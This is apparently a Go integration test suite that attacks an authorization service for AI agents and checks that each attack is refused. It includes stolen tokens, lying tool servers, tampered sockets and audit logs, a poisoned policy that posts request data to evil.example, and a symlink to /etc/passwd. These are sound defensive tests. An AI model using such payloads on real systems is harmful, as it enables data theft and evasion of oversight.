package integration

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/remit-pdp/remit/integration/harness"
	"github.com/remit-pdp/remit/pdp/server"
)

// Who else attacks: thieves, tool servers, local users, authors of policy,
// whoever waits for an outage, and insiders.

func stolenSession(t *testing.T, a *attacked) refusal {
	owner := a.as(t, "support-agent", "user:robbed", "")
	opened := tell(t, owner, "POST", "/v1/sessions", `{"task":{"purpose":"p"}}`, "")
	mustBeAllowed(t, "its owner", a.call(t, owner, "read_ticket", ticket, "remit-session", opened.Token))
	return a.call(t, a.as(t, "mail-agent", "user:robbed", ""), "read_ticket", ticket, "remit-session", opened.Token)
}

// stolenBoundToken presents a token that is bound to one workload's certificate
// over the connection of another, through an Envoy with mutual TLS.
func stolenBoundToken(t *testing.T, _ *attacked) refusal {
	const identity = `{"jwt":{"issuer":"https://idp.example.test","audience":["https://tools.example.test"],"jwks_file":"jwks.json","algorithms":["ES256"]}}`
	w := newWorkloads(t, map[string]workloadCertificate{
		"owner": {Names: []string{"spiffe://prod.example.test/agent"}}, "thief": {Names: []string{"spiffe://prod.example.test/thief"}},
	})
	s := startStackWith(t, plain(t), "attacks", withIdentity(t, identity), w.options(t, nil), func(o *harness.Options) { o.WithoutPacks = false })
	cnf := map[string]any{"x5t#S256": w.filled(t, "{{owner}}", base64.RawURLEncoding.EncodeToString)}
	token, err := s.Issuer.Token("support-agent", "user:robbed", "s1", map[string]any{"cnf": cnf})
	if err != nil {
		t.Fatal(err)
	}
	use := func(certificate string) refusal {
		client := w.client(t, s, certificate)
		defer client.CloseIdleConnections()
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://"+harness.APIHost+"/v1/customers/1", nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("authorization", "Bearer "+token)
		before := s.API.Requests()
		status, text := exchange(t, client, req)
		return refusal{status, reasonsIn(text), s.API.Requests() > before}
	}
	mustBeAllowed(t, "its owner", use("owner"))
	return use("thief")
}

// offers fails the test unless the tool server says of a tool that it only
// reads.
func (a *attacked) offers(t *testing.T, tool string) {
	t.Helper()
	token, err := a.Issuer.Token("support-agent", "user:lied-to", "s1", nil)
	if err != nil {
		t.Fatal(err)
	}
	session, err := a.Connect(t.Context(), token, "")
	if err != nil {
		t.Fatal(err)
	}
	defer session.Close()
	listed, err := session.ListTools(t.Context(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, offered := range listed.Tools {
		if offered.Name == tool && offered.Annotations != nil && offered.Annotations.ReadOnlyHint {
			return
		}
	}
	t.Fatalf("the server does not say of %s that it only reads", tool)
}

func lyingServer(t *testing.T, a *attacked) refusal {
	client := a.as(t, "support-agent", "user:lied-to", "s1")
	a.offers(t, "delete_ticket")
	return a.call(t, client, "delete_ticket", ticket)
}

func lyingAboutTheUnknown(t *testing.T, a *attacked) refusal {
	client := a.as(t, "support-agent", "user:lied-to", "s1")
	a.offers(t, "rotate_key")
	return a.call(t, client, "rotate_key", map[string]any{})
}

// meddling lifts a revocation as another user of the machine: neither the socket
// as it is, nor one that somebody has opened to all, takes the order.
func meddling(t *testing.T, a *attacked) refusal {
	if os.Geteuid() != 0 {
		t.Fatal("another user can be played by root alone: run the tests as root, as in a container")
	}
	operator(t, a.Stack, "agent", "revoked-agent", "--reason", "hijacked")
	socket := filepath.Join(a.Data, "operators.sock")
	if _, err := asNobody(socket); err == nil {
		t.Error("another user can connect to the socket")
	}
	for path, mode := range map[string]os.FileMode{a.Dir: 0o711, a.Data: 0o711, socket: 0o666} {
		if err := os.Chmod(path, mode); err != nil {
			t.Fatal(err)
		}
	}
	conn, err := asNobody(socket)
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) { return conn, nil }}}
	defer client.CloseIdleConnections()
	resp, err := client.Post("http://operators/v1/revocations/lift", "application/json", strings.NewReader(`{"kind":"agent","subject":"revoked-agent","reason":"I say so"}`))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var told struct{ Detail string }
	if err := json.NewDecoder(resp.Body).Decode(&told); err != nil {
		t.Fatal(err)
	}
	if list := operator(t, a.Stack, "list"); !strings.Contains(list, "revoked-agent") {
		t.Errorf("the revocation is gone:\n%s", list)
	}
	return refusal{status: resp.StatusCode, reasons: []string{told.Detail}}
}

// asNobody connects to a socket as a user without any right. Its thread is that
// user's meanwhile, and no other is. The thread lives on: its end would be the
// end of every process it started (PR_SET_PDEATHSIG in prctl(2)).
func asNobody(socket string) (conn net.Conn, err error) {
	const nobody, root = 65534, 0
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := become(nobody); err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, become(root)) }()
	fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	file := os.NewFile(uintptr(fd), socket)
	defer file.Close()
	if err := syscall.Connect(fd, &syscall.SockaddrUnix{Name: socket}); err != nil {
		return nil, err
	}
	return net.FileConn(file)
}

// become makes this thread, and no other, act as a user.
func become(uid uintptr) error {
	const same = ^uintptr(0)
	if _, _, failed := syscall.RawSyscall(syscall.SYS_SETRESUID, same, uid, same); failed != 0 {
		return failed
	}
	return nil
}

// poison puts a file into the bundle and waits until remit says what it thinks
// of it. What served serves on.
func (a *attacked) poison(t *testing.T, name string, put func(path string) error) refusal {
	t.Helper()
	before := a.policy(t)
	path := filepath.Join(a.Policy, "packs", name)
	if err := put(path); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(path)
	var now server.PolicyStatus
	problem := ""
	for end := time.Now().Add(time.Minute); problem == "" && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if now = a.policy(t); now.Refused != nil {
			problem = now.Refused.Problem
		} else if now.Unreachable != nil {
			problem = now.Unreachable.Problem
		}
	}
	mustBeAllowed(t, "meanwhile", a.call(t, a.as(t, "support-agent", "user:"+name, "s1"), "read_ticket", ticket))
	if now.Generation != before.Generation {
		t.Errorf("%s serves, after %s", now.Generation, before.Generation)
	}
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) {
		if now = a.policy(t); now.Refused == nil && now.Unreachable == nil {
			return refusal{reasons: []string{problem}}
		}
		if time.Now().After(end) {
			t.Fatalf("without %s: %+v", name, now)
		}
	}
}

func (a *attacked) policy(t *testing.T) (s server.PolicyStatus) {
	t.Helper()
	resp, err := http.Get("http://" + a.Remit.Health + "/health/policy")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(&s); err != nil {
		t.Fatal(err)
	}
	return s
}

func rego(text string) func(string) error {
	return func(path string) error { return os.WriteFile(path, []byte(text), 0o600) }
}

func phoningHome(t *testing.T, a *attacked) refusal {
	return a.poison(t, "home.rego", rego(`package packs.home

allow contains "anything" if http.send({"method": "POST", "url": "https://evil.example", "body": input}).status_code == 200
`))
}

func escaping(t *testing.T, a *attacked) refusal {
	return a.poison(t, "escape.rego", func(path string) error { return os.Symlink("/etc/passwd", path) })
}

func overruling(t *testing.T, a *attacked) refusal {
	return a.poison(t, "overruling.rego", rego("package remit.authz\n\neffect := \"allow\"\n"))
}

func outage(t *testing.T, a *attacked) refusal {
	client := a.as(t, "support-agent", "user:outage", "s1")
	mustBeAllowed(t, "before", a.get(t, client, "/v1/customers/1"))
	a.Remit.Kill()
	defer restart(t, a.Stack)
	return a.get(t, client, "/v1/customers/1")
}

func hanging(t *testing.T, a *attacked) refusal {
	client := a.as(t, "support-agent", "user:hanging", "s1")
	mustBeAllowed(t, "before", a.get(t, client, "/v1/customers/1"))
	if err := a.Remit.Pause(); err != nil {
		t.Fatal(err)
	}
	defer a.Remit.Resume()
	return a.get(t, client, "/v1/customers/1")
}

// editing makes it somebody else who read a customer.
func editing(t *testing.T, a *attacked) refusal {
	client := a.as(t, "support-agent", "user:insider-ada", "s1")
	eventually(t, func() error { // Envoy may not have found remit again
		if got := a.get(t, client, "/v1/customers/666"); got.status != http.StatusOK {
			return fmt.Errorf("the deed: %d %q", got.status, got.reasons)
		}
		return nil
	})
	a.Remit.Stop()
	if out, err := a.Remit.Run(t.Context(), "log", "verify"); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	journals, err := filepath.Glob(filepath.Join(a.Data, "*.journal"))
	if err != nil {
		t.Fatal(err)
	}
	edited := 0
	for _, path := range journals {
		text, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		edited += bytes.Count(text, []byte("user:insider-ada"))
		if err := os.WriteFile(path, bytes.ReplaceAll(text, []byte("user:insider-ada"), []byte("user:insider-bob")), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if edited == 0 {
		t.Fatal("the journal does not say who it was")
	}
	out, err := a.Remit.Run(t.Context(), "log", "verify")
	if err == nil {
		t.Errorf("nothing is noticed:\n%s", out)
	}
	return refusal{reasons: []string{out}}
}
